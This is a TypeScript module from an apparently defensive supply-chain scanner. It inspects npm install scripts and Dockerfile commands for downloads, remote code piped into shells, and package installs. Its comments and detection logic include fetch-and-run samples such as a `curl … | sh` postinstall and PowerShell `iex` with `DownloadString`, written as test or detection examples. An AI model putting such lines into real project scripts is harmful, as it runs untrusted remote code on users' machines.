/**
 * The commands a project file runs outside the code: the package.json scripts npm runs when the
 * package is installed or started (`preinstall`, `install`, `postinstall`, `prepare`, `prestart`,
 * `start`, `poststart`, and the scripts they run with `npm run x`), and a Dockerfile's `RUN`,
 * `CMD`, `ENTRYPOINT` and `ADD`. Each command line is lexed as a shell would split it
 * (shell-words.ts) and read for the rows of patterns/project-commands.ts: downloads,
 * downloads run as code, and packages installed by name (package-installs.ts). Which scripts of
 * a package.json run is package-scripts.ts's. Inline code (`node -e '…'`, `python -c '…'`) is
 * scanned as code of its language (the commands its calls run, `execSync('curl … | sh')`,
 * `spawn('curl', [url])`, read as lines: call-command.ts), and the script files an interpreter
 * runs (`node install.js`) are returned so the caller scans them as entry points. Pure: text in,
 * findings out.
 *
 * @module
 */
import type { PackageCall, ScanFinding } from './types.ts';
import { shellCommands } from './shell-words.ts';
import { COMMAND_DEPTH, commandName, handedLines, runsFile, unwrap } from './command-words.ts';
import { dockerfileCommands } from './dockerfile-commands.ts';
import { folderTracker, loadRelatedPackages, packageJsonCommands, tryParseObject, type PackageLookup, type PackageReference, type RelatedPackage } from './package-scripts.ts';
import { packageInstall } from './package-installs.ts';
import { CODE_RUNNERS, COMMAND_RULES, DOWNLOAD_COMMANDS, INLINE_CODE_OPTIONS, SCRIPT_INTERPRETERS, SHELLS, VALUE_OPTIONS } from './patterns/project-commands.ts';
import { scanSource } from './scan-source.ts';
import { callCommandLines, type CallLanguage } from './call-command.ts';
import { evidenceLine } from './token-helpers.ts';

/** One command line a project file runs. */
export interface ProjectCommand {
  /** Where it comes from: `scripts.postinstall`, `scripts.start → scripts.server`, `RUN`, `CMD`. */
  origin: string;
  /** The command line (for a Dockerfile exec form, its words joined, each quoted). */
  command: string;
  /** One-based line in the project file. */
  line: number;
  /**
   * Read for the command rows only: a `prepare` script (and what it runs), which npm runs when the
   * package is installed from a git repository or in its own folder, not from the registry; it
   * builds (`tsc && node -e "require('fs').chmodSync('build/index.js', '755')"`), and its inline
   * code and files are the build's, not the server's.
   */
  rowsOnly?: true;
  /** The other package.json that holds the command (`npm --prefix tools run setup`): its folder relative to the scanned one's, and its text. */
  package?: RelatedPackage;
}

/** What the commands of a project file do. */
export interface ProjectCommandScan {
  /** Capability findings, at the project file's line of each command. */
  findings: ScanFinding[];
  /** Relative paths of the code files the commands run (`install.js` of `node install.js`), as written. */
  scripts: string[];
}

/** How deep `npm run x`, `sh -c '…'` and substitutions are followed. */
const MAX_DEPTH = COMMAND_DEPTH;

export { dockerfileCommands, loadRelatedPackages, packageJsonCommands };
export type { PackageLookup, PackageReference, RelatedPackage };

/**
 * The kind of project file a file name is, for {@link scanProjectCommands}.
 *
 * @param name A file's base name.
 * @returns `package.json`, `Dockerfile` (also `Containerfile`, `Dockerfile.prod`, `api.Dockerfile`) or undefined.
 * @example
 * projectCommandFileKind('Dockerfile.dev') // 'Dockerfile'
 */
export function projectCommandFileKind(name: string): 'package.json' | 'Dockerfile' | undefined {
  if (name === 'package.json') return name;
  if (name === 'Dockerfile' || name === 'Containerfile' || /^(?:Dockerfile|Containerfile)\.[A-Za-z0-9_-]+$/.test(name) && !/\.(?:[cm]?[jt]sx?|py|go|rs|json)$/.test(name)) return 'Dockerfile';
  return /^[A-Za-z0-9_.-]+\.(?:Dockerfile|dockerfile)$/.test(name) ? 'Dockerfile' : undefined;
}

/**
 * Scan the commands of a project file.
 *
 * @param file The project file's path (for the findings).
 * @param text Its text.
 * @param kind What it is ({@link projectCommandFileKind}).
 * @returns Capability findings at the lines of the commands, and the script files a package.json's
 *   commands run (a Dockerfile's paths are the image's, not the project's: none).
 * @example
 * scanProjectCommands('package.json', '{"scripts":{"postinstall":"curl -s https://x.test/i | sh"}}', 'package.json').findings.map((f) => f.id)
 * // ['network.command-download', 'code-evaluation.command-remote-code']
 */
export function scanProjectCommands(file: string, text: string, kind: 'package.json' | 'Dockerfile', options: { packages?: PackageLookup } = {}): ProjectCommandScan {
  const commands = kind === 'package.json' ? packageJsonCommands(text, options.packages) : dockerfileCommands(text);
  const findings: ScanFinding[] = [];
  const scripts: string[] = [];
  const seen = new Set<string>();
  // Each package.json's lines and dependencies (the scanned one's, and those of other packages its scripts run scripts of).
  const facts = new Map<string, { file: string; lines: string[]; dependencies?: ReadonlySet<string> }>();
  const factsOf = (related: RelatedPackage | undefined): { file: string; lines: string[]; dependencies?: ReadonlySet<string> } => {
    const dir = related?.dir ?? '';
    let found = facts.get(dir);
    if (found === undefined) {
      const own = related === undefined ? text : related.text;
      const at = dir === '' ? file : `${file.slice(0, file.length - 'package.json'.length)}${dir}/package.json`;
      found = { file: at, lines: own.split(/\r?\n/), ...(kind === 'package.json' ? { dependencies: declaredDependencies(own) } : {}) };
      facts.set(dir, found);
    }
    return found;
  };
  for (const command of commands) {
    const where = factsOf(command.package);
    const dependencies = where.dependencies;
    const evidence = (where.lines[command.line - 1] ?? '').trim().slice(0, 200);
    const at = { file: where.file, line: command.line, evidence, origin: command.origin };
    const emit = (id: string, identifier: string, detail: string): void => {
      const rule = COMMAND_RULES.find((r) => r.id === id)!;
      const key = `${id}\u0000${identifier}\u0000${where.file}\u0000${command.line}`;
      if (seen.has(key)) return;
      seen.add(key);
      findings.push({ id, kind: 'capability', level: 'note', family: rule.family, identifier, file: where.file, line: command.line, column: 1, evidence, detail: `${command.origin}: ${detail}` });
    };
    // `ADD <url> <dest>`: Docker downloads the URL at build.
    if (command.origin.endsWith('ADD')) emit('network.command-download', 'command:ADD', `downloads ${command.command.slice(0, 120)}`);
    else {
      // Packages installed where the server is installed or started: a package.json's scripts, a container's start command (not an image's build).
      const installs = kind === 'package.json' || command.origin === 'CMD' || command.origin === 'ENTRYPOINT';
      const run: string[] = [];
      readLine(command.command, 0, { emit, scripts: run, findings, at, rowsOnly: command.rowsOnly === true, installs, ...(dependencies !== undefined ? { dependencies } : {}) });
      // A script another package's script runs is in that package's folder.
      if (kind === 'package.json' && command.rowsOnly !== true) for (const script of run) scripts.push(command.package === undefined ? script : `${command.package.dir}/${script}`);
    }
  }
  return { findings, scripts: [...new Set(scripts)] };
}

/**
 * The command rows of the commands a code file's calls run (since scanner25): a handler's own
 * `spawn('curl', ['-fsSL', url])`, `execSync('curl … | sh')`, `subprocess.run(['pip', 'install',
 * 'x'])`, read as inline code's are (see call-command.ts), reported at the call, beside its own
 * `subprocess.*` finding: that one says the code starts a program, these say what the written
 * command does (downloads, runs what it downloads, installs a package). Only the rows: inline code
 * the command runs (`spawn('node', ['-e', '…'])`) is read for its command lines, not scanned as
 * the file's code. Since scanner26 also Go's `exec.Command`, Rust's `Command::new`, Bun's and
 * Deno's calls, and the calls of a command-running package (`execaCommand('…')`, zx's `` $`…` ``)
 * the code scan reports at its import: each such call is read as a call of its own identifier
 * (`execa.execaCommand`), with the package finding's file and chain.
 *
 * @param text The code file's text.
 * @param findings The code scan's findings in that file.
 * @param language The file's language.
 * @param options `typescript` and `jsx` for a JavaScript file's tokenizer.
 * @param calls The file's package calls (`SourceScan.packageCalls`).
 * @returns The command findings, each at its call's place (file, line, column, evidence, chain).
 * @example
 * callCommandFindings("require('child_process').spawn('curl', [url])", scan.findings, 'js').map((f) => f.id) // ['network.command-download']
 */
export function callCommandFindings(text: string, findings: readonly ScanFinding[], language: CallLanguage, options: { typescript?: boolean; jsx?: boolean } = {}, calls: readonly PackageCall[] = []): ScanFinding[] {
  const out: ScanFinding[] = [];
  // A package's call stands as a finding of its own identifier at the call, with the package finding's file and chain.
  // (The package's own finding is its import, no call: `execa` names both the package and its function of execa 5.)
  const own = findings.filter((x) => x.kind === 'capability' && x.id !== 'subprocess.spawn-package');
  const imports = new Map<string, ScanFinding>();
  for (const x of findings) if (x.kind === 'capability' && x.id === 'subprocess.spawn-package' && x.identifier !== undefined && !imports.has(x.identifier)) imports.set(x.identifier, x);
  for (const call of calls) {
    // The package is the identifier before its member path (`execa` of `execa.execaCommand`, `@scope/x` of `@scope/x.run`).
    let at: ScanFinding | undefined;
    for (let dot = call.identifier.length; dot > 0 && at === undefined; dot = call.identifier.lastIndexOf('.', dot - 1)) at = imports.get(call.identifier.slice(0, dot));
    if (at !== undefined) own.push({ ...at, identifier: call.identifier, line: call.line, column: call.column, evidence: call.evidence });
  }
  const seen = new Set<string>();
  let lineStarts: number[] | undefined;
  // The evidence of a call elsewhere than the finding (a promisified function's): its line, around its column.
  const evidenceOf = (line: number, column: number): string => {
    lineStarts ??= [0, ...[...text.matchAll(/\n/g)].map((m) => m.index + 1)];
    return evidenceLine(text, (lineStarts[line - 1] ?? 0) + column - 1);
  };
  for (const [f, commands] of callCommandLines(text, own, language, options)) {
    for (const c of commands) {
      const line = c.line ?? f.line;
      const column = c.line !== undefined ? c.column : f.column;
      const evidence = c.line !== undefined ? evidenceOf(c.line, c.column ?? 1) : f.evidence;
      const via = c.line !== undefined ? `the promisified ${f.identifier} of line ${f.line}` : f.identifier;
      const emit = (id: string, identifier: string, detail: string): void => {
        const key = `${id}\u0000${identifier}\u0000${f.file}\u0000${line}\u0000${column}`;
        if (seen.has(key)) return;
        seen.add(key);
        const rule = COMMAND_RULES.find((r) => r.id === id)!;
        out.push({ id, kind: 'capability', level: 'note', family: rule.family, identifier, ...(f.file !== undefined ? { file: f.file } : {}), ...(line !== undefined ? { line } : {}), ...(column !== undefined ? { column } : {}), ...(evidence !== undefined ? { evidence } : {}), detail: `${detail} (a command line of ${via})`, ...(f.chain !== undefined ? { chain: f.chain } : {}) });
      };
      readLine(c.command, 0, { emit, scripts: [], findings: [], at: { file: f.file ?? '', line: line ?? 1, evidence: evidence ?? '', origin: f.identifier ?? '' }, rowsOnly: true, installs: true });
    }
  }
  return out;
}

interface ReadContext {
  emit(id: string, identifier: string, detail: string): void;
  scripts: string[];
  findings: ScanFinding[];
  at: { file: string; line: number; evidence: string; origin: string };
  /** Only the command rows: no inline code scanned (see `ProjectCommand.rowsOnly`). */
  rowsOnly: boolean;
  /** Package installs are read (`network.command-package-install`): not in an image's build (`RUN`). */
  installs: boolean;
  /** A package.json's declared dependencies (all kinds): a package runner runs these from the install, fetching nothing. */
  dependencies?: ReadonlySet<string>;
  /** The folder a `cd` moved the line to, relative to the package's ('' or absent: its own); the files it runs are there. */
  cwd?: string;
}

/** Read one command line (and, a few levels deep, the lines it hands to a shell). */
function readLine(line: string, depth: number, ctx: ReadContext): boolean {
  if (depth > MAX_DEPTH) return false;
  const commands = shellCommands(line);
  let downloads = false;
  // Whether the pipeline so far holds a download (its output flows on through `|`).
  let piped: string | undefined;
  // `cd tools && node setup.js` runs tools/setup.js (a folder not known: as written, from the package's).
  const track = folderTracker(ctx.cwd ?? '');
  const outer = ctx;
  commands.forEach((c, index) => {
    if (c.after !== '|') piped = undefined;
    const unwrapped = unwrap(c.words);
    const words = unwrapped.words;
    const name = commandName(words[0]?.text ?? '');
    const texts = words.map((w) => w.text);
    const cwd = track(c, texts);
    const ctx: ReadContext = cwd === undefined || cwd === '' ? { ...outer, cwd: '' } : { ...outer, cwd };
    // `npx -y pkg`, `pnpm dlx pkg`: the registry's package fetched to run, unless the package.json depends on it.
    const runner = unwrapped.runner;
    if (runner !== undefined && (runner.alwaysFetches || runner.yes) && ctx.dependencies?.has(runner.name) !== true) {
      ctx.emit('network.command-download', `command:${runner.runner.replace(' ', '-')}`, `${runner.runner} fetches ${runner.name} from the npm registry to run it`);
    }
    // What the words' substitutions run (`$(curl …)`, `<(wget …)`).
    let substituted: string | undefined;
    for (const w of words) for (const sub of w.subs) if (readLine(sub, depth + 1, ctx)) substituted ??= firstDownloader(sub);
    // Command lines handed on: `sh -c '…'`, `bash -lc '…'`, `cmd /c …`, `env -S '…'`, `cross-env-shell '…'`, concurrently's, `npx -c '…'`;
    // what one of them downloads flows on through a pipe (`sh -c 'curl …' | sh`).
    let handed: string | undefined;
    for (const inner of [...unwrapped.lines, ...handedLines(texts)]) if (readLine(inner, depth + 1, ctx)) handed ??= firstDownloader(inner) ?? 'download';
    if (handed !== undefined) {
      downloads = true;
      piped = handed;
    } else if (DOWNLOAD_COMMANDS.has(name) && !asksOnlyAbout(words.slice(1).map((w) => w.text))) {
      downloads = true;
      ctx.emit('network.command-download', `command:${name}`, `runs ${name}`);
      piped = name;
    } else if (piped !== undefined && CODE_RUNNERS.has(name) && !runsFile(name, words.slice(1).map((w) => w.text))) {
      ctx.emit('code-evaluation.command-remote-code', `command:${piped}|${name}`, `pipes what ${piped} downloads into ${name}`);
    } else if (c.after === '|' && piped !== undefined && !CODE_RUNNERS.has(name)) {
      // `curl … | tar x`, `curl … | grep`: the data flows on; a runner after it still runs it.
    } else if (!(c.after === '|' && piped !== undefined)) piped = undefined;
    if (substituted !== undefined && (CODE_RUNNERS.has(name) || SHELLS.has(name))) {
      ctx.emit('code-evaluation.command-remote-code', `command:${substituted}|${name}`, `${name} runs what ${substituted} downloads`);
    }
    // PowerShell's command text: `iex (iwr …)`, `Invoke-Expression (New-Object Net.WebClient).DownloadString(…)`.
    if (name === 'powershell' || name === 'pwsh') {
      const flag = words.findIndex((w, k) => k > 0 && /^-(?:c|command|encodedcommand|e|ec)$/i.test(w.text));
      // The command text as written to the end of the line: PowerShell's parentheses are no shell grouping.
      if (flag > 0 && words[flag + 1] !== undefined) powershell(rawToLineEnd(line, words[flag + 1]!.start), ctx);
    }
    if ((name === 'iex' || name === 'invoke-expression') && words[0] !== undefined) powershell(rawToLineEnd(line, words[0].start), ctx);
    const installed = ctx.installs ? packageInstall(texts) : undefined;
    if (installed !== undefined) ctx.emit('network.command-package-install', installed.identifier, installed.detail);
    inline(name, texts, depth, ctx);
    script(name, texts, ctx);
    void index;
  });
  return downloads;
}

/** The text of a line from an offset to the end of its line (a raw PowerShell command, not split as a POSIX shell would). */
function rawToLineEnd(line: string, start: number): string {
  const end = line.indexOf('\n', start);
  return line.slice(start, end < 0 ? line.length : end);
}

/** The first download command a command line runs, for the identifier. */
function firstDownloader(line: string): string | undefined {
  for (const c of shellCommands(line)) {
    const name = commandName(unwrap(c.words).words[0]?.text ?? '');
    if (DOWNLOAD_COMMANDS.has(name)) return name;
  }
  return undefined;
}

/** PowerShell text that downloads (`iwr`, `Invoke-WebRequest`, `DownloadString`) and runs it (`iex`, `Invoke-Expression`). */
function powershell(text: string, ctx: ReadContext): void {
  const words = text.toLowerCase().split(/[^a-z0-9-]+/);
  const downloader = words.find((w) => DOWNLOAD_COMMANDS.has(w)) ?? (words.includes('downloadstring') || words.includes('downloadfile') ? 'downloadstring' : undefined);
  if (downloader === undefined) return;
  ctx.emit('network.command-download', `command:${downloader}`, `runs ${downloader}`);
  if (words.includes('iex') || words.includes('invoke-expression')) ctx.emit('code-evaluation.command-remote-code', `command:${downloader}|iex`, `iex runs what ${downloader} downloads`);
}

/**
 * Inline code (`node -e '…'`, `python -c '…'`): scanned as code of its language, reported at the
 * command (under `prepare`, not: see `ProjectCommand.rowsOnly`). The commands its calls run, as
 * a written shell line (`require('child_process').execSync('curl … | sh')`, `os.system('wget …')`)
 * or a written program and argument list (`spawn('curl', ['-fsSL', url])`, `subprocess.run(['sh',
 * '-c', '…'])`, see call-command.ts), are read as the command's own lines, for the command rows.
 */
function inline(name: string, words: readonly string[], depth: number, ctx: ReadContext): void {
  const known = INLINE_CODE_OPTIONS[name];
  if (known === undefined) return;
  for (let k = 1; k < words.length; k++) {
    const w = words[k]!;
    const eq = known.options.find((o) => o.startsWith('--') && w.startsWith(`${o}=`));
    const code = eq !== undefined ? w.slice(eq.length + 1) : known.options.includes(w) ? words[k + 1] : undefined;
    if (code === undefined) continue;
    const snippet = scanSource(code, { file: `${ctx.at.file}#${ctx.at.origin}.${known.language}` });
    // The code tokenized once for all its calls: once a finding, a script of 800 spawn calls took 5 s (review26).
    const lines = callCommandLines(code, snippet.findings.filter((f) => f.kind === 'capability'), known.language);
    for (const f of snippet.findings) {
      if (f.kind !== 'capability' && f.kind !== 'evasion') continue;
      for (const c of lines.get(f) ?? []) {
        const via = `${c.line !== undefined ? `the promisified ${f.identifier}` : f.identifier} in the code of ${name} ${w}`;
        readLine(c.command, depth + 1, { ...ctx, emit: (id, identifier, detail) => ctx.emit(id, identifier, `${detail} (a command line of ${via})`) });
      }
      if (ctx.rowsOnly) continue;
      ctx.findings.push({ ...f, file: ctx.at.file, line: ctx.at.line, column: 1, evidence: ctx.at.evidence, detail: `${ctx.at.origin}: in the code of ${name} ${w}${f.detail !== undefined ? `: ${f.detail}` : ''}` });
    }
    if (!ctx.rowsOnly) for (const imp of snippet.imports) if (imp.kind === 'relative' && !imp.typeOnly) ctx.scripts.push(inFolder(ctx, imp.specifier));
    return;
  }
}

/** The script an interpreter runs (`node install.js`, `deno run -A x.ts`, `python3 setup_helper.py`). */
function script(name: string, words: readonly string[], ctx: ReadContext): void {
  if (!SCRIPT_INTERPRETERS.has(name)) return;
  let k = 1;
  // `deno run x.ts`, `bun run x.ts`, also after options (`bun --cwd tools run x.ts`, in that folder).
  let run = name !== 'deno' && name !== 'bun';
  let cwd = '';
  for (; k < words.length; k++) {
    const w = words[k]!;
    if (INLINE_CODE_OPTIONS[name]?.options.includes(w) || w === '-m' || w === '-c') return;
    if (VALUE_OPTIONS.has(w)) {
      if (w === '--cwd' && name === 'bun' && words[k + 1] !== undefined) cwd = `${words[k + 1]}/`;
      k++;
      continue;
    }
    if (w.startsWith('-')) continue;
    if (!run && w === 'run') {
      run = true;
      continue;
    }
    run = true;
    // A relative path (absolute paths and `$VAR` are the runtime's to resolve).
    if (!w.startsWith('/') && !w.includes('$') && !/^[a-z][\w+.-]*:/i.test(w)) ctx.scripts.push(inFolder(ctx, cwd + w));
    return;
  }
}

/** A path a command in the line's folder gives, relative to the package's folder (`setup.js` after `cd tools` is `tools/setup.js`). */
function inFolder(ctx: ReadContext, path: string): string {
  return ctx.cwd === undefined || ctx.cwd === '' ? path : `${ctx.cwd}/${path}`;
}

/** The names a package.json declares as dependencies of any kind. */
function declaredDependencies(text: string): Set<string> {
  const json = tryParseObject(text);
  const out = new Set<string>();
  for (const key of ['dependencies', 'devDependencies', 'optionalDependencies', 'peerDependencies']) {
    const table = json?.[key];
    if (table !== null && typeof table === 'object' && !Array.isArray(table)) for (const name of Object.keys(table)) out.add(name);
  }
  return out;
}

/**
 * Whether a downloader's arguments only ask about the program (`curl --version`, `wget --help`, `curl -V`): a check that
 * it is installed, which downloads nothing (review25: `curl --version || echo need curl` was a download).
 */
function asksOnlyAbout(args: readonly string[]): boolean {
  return args.length > 0 && args.every((a) => /^(?:--version|-V|--help|-h|--manual|-M)$/.test(a));
}
